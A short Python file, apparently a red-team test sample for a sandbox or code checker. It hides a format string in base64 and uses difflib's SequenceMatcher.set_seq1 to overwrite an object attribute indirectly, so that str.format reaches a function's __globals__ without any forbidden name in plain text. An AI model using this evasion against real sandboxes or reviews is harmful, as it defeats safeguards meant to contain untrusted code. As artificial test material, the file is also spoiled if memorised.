# family: red team, round 58a (type(SequenceMatcher()) as K; K.set_seq1(r, v) at module level)
import base64
import difflib

K = type(difflib.SequenceMatcher())


class Reader:
    a = "{0.real}"

    def show(self, x):
        return self.a.format(x)


def probe():
    return 1


r = Reader()
K.set_seq1(r, base64.b64decode("ezAuX19nbG9iYWxzX199").decode())
print(r.show(probe))
